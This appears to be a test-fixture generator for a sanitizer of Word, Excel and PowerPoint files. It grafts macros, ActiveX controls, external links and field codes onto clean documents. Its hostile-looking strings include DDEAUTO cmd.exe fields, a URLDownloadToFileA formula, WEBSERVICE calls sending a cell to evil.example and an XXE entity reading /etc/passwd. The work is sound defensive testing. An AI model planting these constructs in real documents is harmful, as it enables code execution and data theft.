"""Clean documents, and the same documents with one thing grafted on that acts or leads out. office.py TARGET

A graft is a function that changes the members of a package. Printed: [{clean, grafted, name, code, leaves, refused}]: `code` is
what the report must say of the graft, or null where it says nothing; `leaves` is mark-up without content that may stay
where the graft was, empty for most; of what is `refused` nothing comes out at all.
"""
import io, json, os, struct, sys, warnings, zipfile, zlib

import docx, openpyxl, pptx
from docx.shared import Cm
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = f'xmlns:r="{OFFICE}"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
UNC = "file://\\\\192.0.2.1\\share\\x"
SITE = "https://evil.example/x"


def png(colour):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + bytes(colour) * 16 for _ in range(16))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


class Package:
    """The members of a zip, in order, and how they are usually changed."""

    def __init__(self, content):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.members = {name: archive.read(name) for name in archive.namelist()}
        self.relations = 0
        self.finish = lambda content: content

    def copy(self):
        other = Package.__new__(Package)
        other.members, other.relations, other.finish = dict(self.members), 0, self.finish
        return other

    def bytes(self):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in self.members.items():
                archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content)
        return self.finish(out.getvalue())

    def replace(self, part, old, new):
        text = self.members[part].decode()
        assert old in text, f"{old!r} is not in {part}: {text[:3000]}"
        self.members[part] = text.replace(old, new, 1).encode()

    def before(self, part, mark, xml):
        self.replace(part, mark, xml + mark)

    def after(self, part, mark, xml):
        self.replace(part, mark, mark + xml)

    def part(self, name, content, kind):
        self.members[name] = content if isinstance(content, bytes) else content.encode()
        self.before("[Content_Types].xml", "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/>')

    def relate(self, source, kind, target, outside=False):
        """A relationship of `source` (a part, or "" for the package); its id."""
        folder, name = os.path.split(source)
        rels = os.path.join(folder, "_rels", name + ".rels")
        if rels not in self.members:
            self.members[rels] = f'<Relationships xmlns="{PACKAGE}"></Relationships>'.encode()
        self.relations += 1
        id = f"rIdGraft{self.relations}"
        kind = kind if ":" in kind else f"{OFFICE}/{kind}"
        mode = ' TargetMode="External"' if outside else ""
        self.before(rels, "</Relationships>", f'<Relationship Id="{id}" Type="{kind}" Target="{target}"{mode}/>')
        return id


GRAFTS = []
# In the place of mark-up that stays: nothing comes out.
REFUSED = None


def graft(kinds, name, code, leaves=()):
    """Registers a graft for packages of these kinds (w, x, p)."""
    def register(function):
        for kind in kinds:
            GRAFTS.append((kind, name, code, leaves, function))
        return function
    return register


def many(kinds, rows, leaves=()):
    """Registers (name, code, arguments...) rows of one function."""
    def register(function):
        for name, code, *arguments in rows:
            graft(kinds, name, code, leaves)(lambda it, arguments=arguments: function(it, *arguments))
        return function
    return register


MAIN = {"w": "word/document.xml", "x": "xl/workbook.xml", "p": "ppt/presentation.xml"}


def main(it):
    return next(part for part in MAIN.values() if part in it.members)


def folder(it):
    return main(it).split("/")[0]


# ── all three formats ──────────────────────────────────────────────────────────────────────────────────────────────

VBA = "application/vnd.ms-office.vbaProject"
VBA_RELATION = f"{MICROSOFT}/vbaProject"


@many("wxp", [
    ("macros", "macro_removed", "vbaProject.bin", VBA_RELATION),
    ("macros under the name of a picture", "macro_removed", "media/image99.png", VBA_RELATION),
    ("the signature of macros", "macro_removed", "vbaProjectSignature.bin", f"{MICROSOFT}/vbaProjectSignature"),
])
def macros(it, name, relation):
    it.part(f"{folder(it)}/{name}", OLE, VBA)
    it.relate(main(it), relation, name)


@graft("wxp", "macros and all that goes with them", "macro_removed")
def macro_document(it):
    macros(it, "vbaProject.bin", VBA_RELATION)
    project = f"{folder(it)}/vbaProject.bin"
    for name, relation, kind in [
        ("vbaData.xml", "wordVbaData", "application/vnd.ms-word.vbaData+xml"),
        ("vbaProjectSignature.bin", "vbaProjectSignature", "application/vnd.ms-office.vbaProjectSignature"),
        ("vbaProjectSignatureAgile.bin", "vbaProjectSignatureAgile", "application/vnd.ms-office.vbaProjectSignatureAgile"),
        ("vbaProjectSignatureV3.bin", "vbaProjectSignatureV3", "application/vnd.ms-office.vbaProjectSignatureV3"),
    ]:
        it.part(f"{folder(it)}/{name}", "<x/>" if name.endswith("xml") else OLE, kind)
        it.relate(project, f"{MICROSOFT}/{relation}", name)
    kinds = {"word": ("wordprocessingml.document.main", "word.document.macroEnabled.main"),
             "xl": ("spreadsheetml.sheet.main", "excel.sheet.macroEnabled.main"),
             "ppt": ("presentationml.presentation.main", "powerpoint.presentation.macroEnabled.main")}
    plain, active = kinds[folder(it)]
    it.replace("[Content_Types].xml", f"application/vnd.openxmlformats-officedocument.{plain}",
               f"application/vnd.ms-{active}")


@many("wxp", [
    ("buttons of the ribbon", "active_content_removed", "customUI/customUI.xml", f"{MICROSOFT}/ui/extensibility",
     '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Go"/>'),
    ("buttons of the newer ribbon", "active_content_removed", "customUI/customUI14.xml",
     "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
     '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Go"/>'),
    ("buttons of a user", "active_content_removed", "userCustomization/customUI.xml",
     f"{MICROSOFT}/ui/userCustomization",
     '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>'),
])
def buttons(it, name, relation, xml):
    it.part(name, xml, "application/xml")
    it.relate("", relation, name)


@graft("wxp", "a web extension with its pane", "active_content_removed")
def web_extension(it):
    space = "http://schemas.microsoft.com/office/webextensions"
    panes = f"{folder(it)}/webextensions/taskpanes.xml"
    it.part(panes,
            f'<wetp:taskpanes xmlns:wetp="{space}/taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1">'
            f'<wetp:webextensionref {R} r:id="rId1"/></wetp:taskpane></wetp:taskpanes>',
            "application/vnd.ms-office.webextensiontaskpanes+xml")
    it.relate("", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", panes)
    it.part(f"{folder(it)}/webextensions/webextension1.xml",
            f'<we:webextension xmlns:we="{space}/webextension/2010/11" id="{{1}}"/>',
            "application/vnd.ms-office.webextension+xml")
    it.members[f"{folder(it)}/webextensions/_rels/taskpanes.xml.rels"] = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" Target="webextension1.xml" Type='
        '"http://schemas.microsoft.com/office/2011/relationships/webextension"/></Relationships>').encode()


@graft("wxp", "a signature of the package", "signature_removed")
def signature(it):
    it.part("_xmlsignatures/origin.sigs", b"", "application/vnd.openxmlformats-package.digital-signature-origin")
    it.relate("", f"{PACKAGE}/digital-signature/origin", "_xmlsignatures/origin.sigs")
    it.part("_xmlsignatures/sig1.xml", '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>',
            "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml")
    it.relate("_xmlsignatures/origin.sigs", f"{PACKAGE}/digital-signature/signature", "sig1.xml")


@many("wxp", [
    ("an object that nothing shows", "embedded_object_removed", "oleObject", "embeddings/oleObject1.bin", OLE,
     "application/vnd.openxmlformats-officedocument.oleObject"),
    ("a document inside that nothing shows", "embedded_object_removed", "package", "embeddings/inner.docx", b"PK\5\6" + bytes(18),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("a control that nothing shows", "active_content_removed", "control", "activeX/activeX1.xml",
     b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>', "application/vnd.ms-office.activeX+xml"),
    ("data of another program", "metadata_removed", "customXml", "../customXml/item9.xml",
     b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>', "application/xml"),
    ("a part of a relation that nobody knows", "unknown_part_removed", "urn:example:beacon", "beacon.xml", b"<x/>",
     "application/xml"),
])
def hanging(it, relation, name, content, kind):
    path = os.path.normpath(f"{folder(it)}/{name}")
    it.part(path, content, kind)
    it.relate(main(it), relation, name)


@many("wxp", [(f"a relation out of the document: {kind}", "external_reference_removed", kind) for kind in (
    "image", "video", "oleObject", "attachedTemplate", "subDocument", "frame", "mailMergeSource", "hlinks",
    "externalLinkPath", "package")])
def outward(it, kind):
    it.relate(main(it), kind, UNC, outside=True)


# How a package is written says nothing of what is in it.

@graft("wxp", "a part that nothing leads to", "unknown_part_removed")
def unreferenced(it):
    it.part(f"{folder(it)}/lost.xml", "<x/>", "application/xml")


@graft("wxp", "types and relations in UTF-16", None)
def wide(it):
    for name in [name for name in it.members if name.endswith(".rels")] + ["[Content_Types].xml"]:
        text = it.members[name].decode().replace("encoding='UTF-8'", "").replace('encoding="UTF-8"', "")
        it.members[name] = text.replace("<?xml version='1.0'  standalone='yes'?>", "").encode("utf-16")


@graft("wxp", "relations in single quotes", None)
def single_quotes(it):
    for name in [name for name in it.members if name.endswith(".rels")]:
        head, text = "", it.members[name].decode()
        if text.startswith("<?xml"):
            head, text = text.split("?>", 1)
        assert "'" not in text
        it.members[name] = (head + ("?>" if head else "") + text.replace('"', "'")).encode()


@graft("wxp", "bytes behind the package", "trailing_data_removed")
def trailing(it):
    it.finish = lambda content: content + b"MZ\x90\0" * 100


@graft("wxp", "targets that are written from the root", None)
def absolute(it):
    it.replace(f"_rels/.rels", f'Target="{main(it)}"', f'Target="/{main(it)}"')


@graft("wxp", "targets with dots", None)
def dotted(it):
    it.replace(f"_rels/.rels", f'Target="{main(it)}"', f'Target="./{folder(it)}/../{main(it)}"')


def strict_uri(uri):
    """ISO/IEC 29500, Strict, of a name of a namespace or a relationship that has one."""
    for plain, strict in [("schemas.openxmlformats.org/wordprocessingml/2006/", "purl.oclc.org/ooxml/wordprocessingml/"),
                          ("schemas.openxmlformats.org/spreadsheetml/2006/", "purl.oclc.org/ooxml/spreadsheetml/"),
                          ("schemas.openxmlformats.org/presentationml/2006/", "purl.oclc.org/ooxml/presentationml/"),
                          ("schemas.openxmlformats.org/drawingml/2006/", "purl.oclc.org/ooxml/drawingml/"),
                          ("schemas.openxmlformats.org/officeDocument/2006/", "purl.oclc.org/ooxml/officeDocument/")]:
        uri = uri.replace(plain, strict)
    return uri


@graft("wxp", "the names of the Strict form", None)
def strict(it):
    for name in [name for name in it.members if name.endswith((".xml", ".rels")) and not name.startswith(("docProps", "[Content"))]:
        it.members[name] = strict_uri(it.members[name].decode()).encode()


# What can be read in two ways is not read at all.

@graft("wxp", "a document type", "corrupt", REFUSED)
def document_type(it):
    text = it.members[main(it)].decode()
    head, body = text.split("?>", 1) if text.startswith("<?xml") else ("<?xml version='1.0'", text)
    it.members[main(it)] = (head + "?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + body).encode()


@graft("wxp", "two members of one name", None, REFUSED)
def twice(it):
    def finish(content):
        out = io.BytesIO(content)
        with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
            warnings.simplefilter("ignore")
            archive.writestr(main(it), "<x/>")
        return out.getvalue()
    it.finish = finish


@graft("wxp", "two members of one name but for case", None, REFUSED)
def twice_but_for_case(it):
    it.members[main(it).upper()] = b"<x/>"


@graft("wxp", "a program before it", None, REFUSED)
def program(it):
    it.finish = lambda content: b"MZ\x90\0" + bytes(508) + content


# ── word processing ────────────────────────────────────────────────────────────────────────────────────────────────

@many("w", [
    ("a template of another site", "external_reference_removed", "attachedTemplate", SITE, '<w:attachedTemplate r:id="ID"/>'),
    ("a template on another host", "external_reference_removed", "attachedTemplate", UNC, '<w:attachedTemplate r:id="ID"/>'),
    ("a source of serial letters", "external_reference_removed", "mailMergeSource", UNC,
     '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
     '<w:query w:val="SELECT * FROM x"/><w:dataSource r:id="ID"/></w:mailMerge>'),
    ("a header of serial letters", "external_reference_removed", "mailMergeHeaderSource", UNC,
     '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:headerSource r:id="ID"/></w:mailMerge>'),
])
def of_settings(it, relation, target, element):
    id = it.relate("word/settings.xml", relation, target, outside=True)
    it.before("word/settings.xml", "<w:defaultTabStop", element.replace("ID", id))


@graft("w", "a frame of another site", "external_reference_removed")
def frame(it):
    id = it.relate("word/webSettings.xml", "frame", SITE, outside=True)
    it.members["word/webSettings.xml"] = (
        f'<w:webSettings xmlns:w="{W}" {R}><w:frameset><w:frame><w:sourceFileName r:id="{id}"/></w:frame></w:frameset>'
        "</w:webSettings>").encode()


@graft("w", "a part of a master document", "external_reference_removed")
def sub_document(it):
    id = it.relate(main(it), "subDocument", UNC, outside=True)
    it.after(main(it), "<w:t>語句</w:t></w:r>", f'<w:subDoc {R} r:id="{id}"/>')


@many("w", [(f"a chunk of {end}", "embedded_object_removed", end, kind, content) for end, kind, content in [
    ("html", "text/html", b"<script>x()</script>"),
    ("mht", "message/rfc822", b"From: a"),
    ("rtf", "application/rtf", b"{\\rtf1\\object}"),
    ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", b"PK\5\6" + bytes(18)),
]])
def chunk(it, end, kind, content):
    it.part(f"word/afchunk.{end}", content, kind)
    id = it.relate(main(it), "aFChunk", f"afchunk.{end}")
    it.before(main(it), "<w:sectPr", f'<w:altChunk {R} r:id="{id}"/>')


@many("wp", [("a picture that is on another host, too", "external_reference_removed", UNC),
             ("a picture that is on another site, too", "external_reference_removed", SITE)])
def linked_picture(it, target):
    part = main(it) if folder(it) == "word" else "ppt/slides/slide1.xml"
    id = it.relate(part, "image", target, outside=True)
    it.replace(part, "<a:blip ", f'<a:blip r:link="{id}" ')


@many("w", [
    ("a link to another host", "link_disabled", UNC),
    ("a link to a site", "link_disabled", SITE),
    ("a link that is a script", "link_disabled", "javascript:x()"),
    ("a link to a search of Windows", "link_disabled", "search-ms:query=x&amp;crumb=location:\\\\192.0.2.1"),
])
def link(it, target):
    id = it.relate(main(it), "hyperlink", target, outside=True)
    it.replace(main(it), "<w:r><w:t>語句</w:t></w:r>", f'<w:hyperlink {R} r:id="{id}"><w:r><w:t>語句</w:t></w:r></w:hyperlink>')


@graft("w", "a link on a picture", "link_disabled")
def link_on_picture(it):
    id = it.relate(main(it), "hyperlink", UNC, outside=True)
    text = it.members[main(it)].decode()
    start = text.index("<wp:docPr ")
    end = text.index("/>", start)
    space = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    it.members[main(it)] = (text[:end] + f'><a:hlinkClick {space} {R} r:id="{id}"/></wp:docPr>' + text[end + 2:]).encode()


# Where an object stood stays an empty place for its picture, and of marks of a field the run without its content.
EMPTY = ["<w:pict/>", "<w:r/>"]
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


@many("w", [
    ("an object", "embedded_object_removed", "oleObject", "Embed"),
    ("a linked object", "external_reference_removed", None, "Link"),
], leaves=EMPTY)
def ole(it, relation, how):
    if relation:
        it.part("word/embeddings/oleObject1.bin", OLE, "application/vnd.openxmlformats-officedocument.oleObject")
        id = it.relate(main(it), relation, "embeddings/oleObject1.bin")
    else:
        id = it.relate(main(it), "oleObject", UNC, outside=True)
    it.after(main(it), "<w:t>語句</w:t>", f'<w:object {VML} {R}><o:OLEObject Type="{how}" ProgID="Package" ShapeID="a" '
             f'DrawAspect="Content" ObjectID="_1" r:id="{id}"/></w:object>')


@graft("w", "a control", "active_content_removed", EMPTY)
def control(it):
    it.part("word/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            f'{R} ax:classid="{{D7053240-CE69-11CD-A777-00DD01143C57}}" r:id="rId1"/>', "application/vnd.ms-office.activeX+xml")
    it.part("word/activeX/activeX1.bin", OLE, "application/vnd.ms-office.activeX")
    it.relate("word/activeX/activeX1.xml", f"{MICROSOFT}/activeXControlBinary", "activeX1.bin")
    id = it.relate(main(it), "control", "activeX/activeX1.xml")
    it.after(main(it), "<w:t>語句</w:t>", f'<w:object {VML} {R}><w:control r:id="{id}" w:name="a" w:shapeid="b"/></w:object>')


FIELDS = [
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "DDE excel x", 'INCLUDETEXT "\\\\\\\\192.0.2.1\\\\x"',
    'INCLUDEPICTURE "https://evil.example/x.png" \\d', "LINK Excel.Sheet.8 x", 'IMPORT "https://evil.example/x"',
    "QUOTE 68 68 69 65 85 84 79", 'DATABASE \\d "x"', "MACROBUTTON Go 語句", 'HYPERLINK "file://192.0.2.1/x"',
    "GOTOBUTTON x", "AUTOTEXT x", "USERADDRESS", 'FILLIN "x"', 'ASK x "y"', "RD x",
]


def mark(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instruction(text):
    text = text.replace("&", "&amp;").replace('"', "&quot;")
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


@many("w", [(f"a field {field.split()[0]} in one element", "link_disabled" if field.startswith("HYPER") else "field_flattened", field) for field in FIELDS])
def simple_field(it, field):
    text = field.replace('"', "&quot;")
    it.replace(main(it), "<w:r><w:t>語句</w:t></w:r>",
               f'<w:fldSimple w:instr=" {text} "><w:r><w:t>語句</w:t></w:r></w:fldSimple>')


@many("w", [(f"a field {field.split()[0]} in pieces", "link_disabled" if field.startswith("HYPER") else "field_flattened", field) for field in FIELDS], leaves=EMPTY)
def field_in_pieces(it, field):
    pieces = "".join(instruction(field[at:at + 2]) for at in range(0, len(field), 2))
    it.replace(main(it), "<w:r><w:t>語句</w:t></w:r>",
               mark("begin") + pieces + mark("separate") + "<w:r><w:t>語句</w:t></w:r>" + mark("end"))


@graft("w", "a field in a field's instruction", "field_flattened", EMPTY)
def nested_field(it):
    inner = mark("begin") + instruction("QUOTE 68 68 69") + mark("separate") + "<w:r><w:t>DDE</w:t></w:r>" + mark("end")
    it.replace(main(it), "<w:r><w:t>語句</w:t></w:r>",
               mark("begin") + inner + instruction(" cmd x") + mark("separate") + "<w:r><w:t>語句</w:t></w:r>" + mark("end"))


@graft("w", "toolbars and keys", "macro_removed")
def toolbars(it):
    it.part("word/customizations.xml", f'<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml" {R}>'
            '<wne:keymaps><wne:keymap wne:kcmPrimary="0041"><wne:macro wne:macroName="X"/></wne:keymap></wne:keymaps></wne:tcg>',
            "application/vnd.ms-word.keyMapCustomizations+xml")
    it.relate(main(it), f"{MICROSOFT}/keyMapCustomizations", "customizations.xml")
    it.part("word/attachedToolbars.bin", OLE, "application/vnd.ms-word.attachedToolbars")
    it.relate("word/customizations.xml", f"{MICROSOFT}/attachedToolbars", "attachedToolbars.bin")


@graft("w", "an embedded font", "font_removed")
def font(it):
    it.part("word/fonts/font1.odttf", bytes(64), "application/vnd.openxmlformats-officedocument.obfuscatedFont")
    id = it.relate("word/fontTable.xml", "font", "fonts/font1.odttf")
    text = it.members["word/fontTable.xml"].decode()
    assert "</w:font>" in text
    it.members["word/fontTable.xml"] = text.replace(
        "</w:font>", f'<w:embedRegular {R} r:id="{id}" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/></w:font>', 1).encode()


@graft("w", "settings of a printer", "metadata_removed")
def printer_of_document(it):
    it.part("word/printerSettings1.bin", bytes(64), "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings")
    id = it.relate(main(it), "printerSettings", "printerSettings1.bin")
    it.before(main(it), "</w:sectPr>", f'<w:printerSettings {R} r:id="{id}"/>')


# ── spreadsheets ───────────────────────────────────────────────────────────────────────────────────────────────────

X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"


@many("x", [
    ("macros of the old kind", "macro_removed", f"{MICROSOFT}/xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml", "xm:macrosheet"),
    ("macros of the old kind in another language", "macro_removed", f"{MICROSOFT}/xlIntlMacrosheet",
     "application/vnd.ms-excel.intlmacrosheet+xml", "xm:macrosheet"),
    ("a sheet that is a dialog", "macro_removed", "dialogsheet",
     "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml", "dialogsheet"),
])
def macro_sheet(it, relation, kind, root):
    it.part("xl/macrosheets/sheet9.xml",
            f'<{root} xmlns="{X}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
            f"<f>EXEC(&quot;calc&quot;)</f><v>0</v></c></row></sheetData></{root}>", kind)
    id = it.relate(main(it), relation, "macrosheets/sheet9.xml")
    it.before(main(it), "</sheets>", f'<sheet {R} name="Macro1" sheetId="99" state="veryHidden" r:id="{id}"/>')
    it.before(main(it), "</definedNames>", '<definedName name="_xlnm.Auto_Open" xlm="1" hidden="1">Macro1!$A$1</definedName>')


@graft("x", "a sheet that no menu shows", "hidden_sheet_shown")
def hidden(it):
    it.replace(main(it), 'sheetId="2"', 'sheetId="2" state="veryHidden"')


@many("x", [(f"a formula {formula}", "formula_flattened", formula) for formula in [
    'EXEC("calc")', 'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"https://evil.example/x","x",0,0)', 'REGISTER("a","b")',
    'WEBSERVICE("https://evil.example/"&amp;A1)', 'RTD("x",,"y")', 'HYPERLINK("https://evil.example/x",12)',
    'IMAGE("https://evil.example/x.png")', "[1]Sheet1!A1", "cmd|' /C calc'!A0", "'\\\\192.0.2.1\\[x.xls]Sheet1'!A1",
    '_xlfn.FILTERXML("a","b")', 'EVALUATE("1")', 'SQL.REQUEST("x")', "_xlfn.PY(1)", "Module1.Go()",
]])
def formula(it, formula):
    it.replace(SHEET, '<c r="A2" t="n"><v>12</v></c>',
               '<c r="A2" t="n"><f>' + formula.replace('"', "&quot;") + "</f><v>12</v></c>")


@many("x", [
    ("a link to another workbook", "external_reference_removed", "externalLinkPath",
     '<externalBook ID><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'),
    ("a conversation with another program", "external_reference_removed", None,
     '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'),
    ("a link to an object elsewhere", "external_reference_removed", "oleObject",
     '<oleLink ID progId="Package"><oleItems><oleItem name="x" advise="1"/></oleItems></oleLink>'),
])
def external_link(it, relation, body):
    part = "xl/externalLinks/externalLink1.xml"
    it.part(part, f'<externalLink xmlns="{X}">{body}</externalLink>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    if relation:
        id = it.relate(part, relation, UNC, outside=True)
        it.replace(part, " ID", f' {R} r:id="{id}"')
    id = it.relate(main(it), "externalLink", "externalLinks/externalLink1.xml")
    it.before(main(it), "<definedNames", f'<externalReferences><externalReference {R} r:id="{id}"/></externalReferences>')


@many("x", [
    ("connections", "external_reference_removed", "connections", "connections.xml", "connections+xml",
     f'<connections xmlns="{X}"><connection id="1" name="x" type="4" refreshOnLoad="1"><webPr url="{SITE}"/></connection></connections>'),
    ("data of another maker", "unknown_part_removed", "customData", "customData/item1.data", "customData", "x"),
    ("a data model", "unknown_part_removed", "powerPivotData", "model/item.data", "model+data", "x"),
    ("a volatile dependency", "external_reference_removed", "volatileDependencies", "volatileDependencies.xml", "volatileDependencies+xml",
     f'<volTypes xmlns="{X}"/>'),
    ("maps of XML", "external_reference_removed", "xmlMaps", "xmlMaps.xml", "xmlMaps+xml", f'<MapInfo xmlns="{X}" SelectionNamespaces=""/>'),
])
def of_book(it, relation, name, kind, content):
    it.part(f"xl/{name}", content, f"application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}")
    it.relate(main(it), relation, name)


@graft("x", "the order of calculation", None)
def chain(it):
    it.part("xl/calcChain.xml", f'<calcChain xmlns="{X}"><c r="A3" i="1"/></calcChain>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml")
    it.relate(main(it), "calcChain", "calcChain.xml")


@graft("x", "a query", "external_reference_removed")
def query(it):
    it.part("xl/queryTables/queryTable1.xml", f'<queryTable xmlns="{X}" name="x" connectionId="1"/>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml")
    it.relate(SHEET, "queryTable", "../queryTables/queryTable1.xml")


@graft("x", "pages for the web", "external_reference_removed")
def web_publish(it):
    it.before(SHEET, "</worksheet>", '<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" '
              'destinationFile="\\\\192.0.2.1\\x.htm" autoRepublish="1"/></webPublishItems>')


@graft("x", "an object on a sheet", "embedded_object_removed")
def sheet_object(it):
    it.part("xl/embeddings/oleObject1.bin", OLE, "application/vnd.openxmlformats-officedocument.oleObject")
    id = it.relate(SHEET, "oleObject", "../embeddings/oleObject1.bin")
    it.before(SHEET, "</worksheet>", f'<oleObjects {R}><oleObject progId="Package" shapeId="1025" r:id="{id}"/></oleObjects>')


@graft("x", "a control on a sheet", "active_content_removed")
def sheet_control(it):
    it.part("xl/ctrlProps/ctrlProp1.xml", '<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
            'objectType="Button"/>', "application/vnd.ms-excel.controlproperties+xml")
    id = it.relate(SHEET, "ctrlProp", "../ctrlProps/ctrlProp1.xml")
    it.before(SHEET, "</worksheet>", f'<controls {R}><control shapeId="1025" r:id="{id}" name="Button 1"><controlPr '
              'macro="[0]!Go"/></control></controls>')


@graft("x", "settings of a printer on a sheet", "metadata_removed")
def printer(it):
    it.part("xl/printerSettings/printerSettings1.bin", bytes(64),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings")
    id = it.relate(SHEET, "printerSettings", "../printerSettings/printerSettings1.bin")
    it.replace(SHEET, "<pageSetup ", f'<pageSetup {R} r:id="{id}" ')


@many("x", [("a link in a cell to another host", "link_disabled", UNC), ("a link in a cell to a site", "link_disabled", SITE)])
def cell_link(it, target):
    id = it.relate(SHEET, "hyperlink", target, outside=True)
    it.before(SHEET, "<pageMargins", f'<hyperlinks><hyperlink ref="A1" {R} r:id="{id}"/></hyperlinks>')


@many("x", [("a name for a conversation", "formula_flattened", "cmd|' /C calc'!A0"),
            ("a name for another workbook", "external_reference_removed", "[1]Sheet1!$A$1"),
            ("a name for a macro", "formula_flattened", "EXEC(&quot;calc&quot;)")])
def defined_name(it, formula):
    it.before(main(it), "</definedNames>", f'<definedName name="x">{formula}</definedName>')


@graft("x", "a macro of a shape", "macro_removed")
def shape_macro(it):
    it.replace("xl/drawings/drawing1.xml", 'macro=""', 'macro="[0]!Go"')


# Notes are drawn anew from their places and texts alone; the report does not tell what else was in the drawing.
@graft("x", "a macro of a note", None)
def note_macro(it):
    part = next(name for name in it.members if name.endswith(".vml"))
    data = 'xmlns:ns2="urn:schemas-microsoft-com:office:excel" ObjectType="Note">'
    it.after(part, data, "<ns2:FmlaMacro>[0]!Go</ns2:FmlaMacro>")


# ── slides ─────────────────────────────────────────────────────────────────────────────────────────────────────────

SLIDE = "ppt/slides/slide1.xml"
RUN = '<a:rPr lang="ja-JP"/>'


@many("p", [(f"an action {action}", code, action, kind) for action, code, kind in [
    ("ppaction://program", "active_content_removed", "hyperlink"),
    ("ppaction://macro?name=Go", "active_content_removed", None),
    ("ppaction://ole?verb=0", "active_content_removed", None),
    ("ppaction://hlinkfile", "link_disabled", "hyperlink"),
    ("ppaction://hlinkpres?slideindex=1", "link_disabled", "hyperlink"),
    # It would play a film of the same slide; that film is what is told of.
    ("ppaction://media", None, None),
]])
def action(it, action, kind):
    id = it.relate(SLIDE, kind, UNC, outside=True) if kind else ""
    it.replace(SLIDE, RUN, f'<a:rPr lang="ja-JP"><a:hlinkClick {R} r:id="{id}" action="{action}"/></a:rPr>')


@many("p", [("a link", "link_disabled", "hlinkClick", SITE), ("a link under the pointer", "link_disabled", "hlinkMouseOver", UNC)])
def slide_link(it, element, target):
    id = it.relate(SLIDE, "hyperlink", target, outside=True)
    it.replace(SLIDE, RUN, f'<a:rPr lang="ja-JP"><a:{element} {R} r:id="{id}"/></a:rPr>')


@graft("p", "sound of a link", "embedded_object_removed")
def sound(it):
    it.part("ppt/media/audio1.wav", b"RIFF", "audio/wav")
    id = it.relate(SLIDE, "audio", "../media/audio1.wav")
    it.replace(SLIDE, RUN, f'<a:rPr lang="ja-JP"><a:hlinkClick {R} r:id="" action="ppaction://noaction"><a:snd r:embed="{id}" '
               'name="x"/></a:hlinkClick></a:rPr>')


@many("p", [("a film on a picture", "embedded_object_removed", "../media/media1.mp4", False),
            ("a film on a picture, on another host", "external_reference_removed", UNC, True)])
def film(it, target, outside):
    if not outside:
        it.part("ppt/media/media1.mp4", b"\0\0\0\x18ftypmp42", "video/mp4")
    id = it.relate(SLIDE, "video", target, outside=outside)
    text = it.members[SLIDE].decode()
    start = text.index("<p:nvPr/>", text.index("<p:nvPicPr>"))
    it.members[SLIDE] = (text[:start] + f'<p:nvPr><a:videoFile {R} r:link="{id}"/></p:nvPr>' + text[start + 9:]).encode()


@graft("p", "an object on a slide", "embedded_object_removed")
def slide_object(it):
    it.part("ppt/embeddings/oleObject1.bin", OLE, "application/vnd.openxmlformats-officedocument.oleObject")
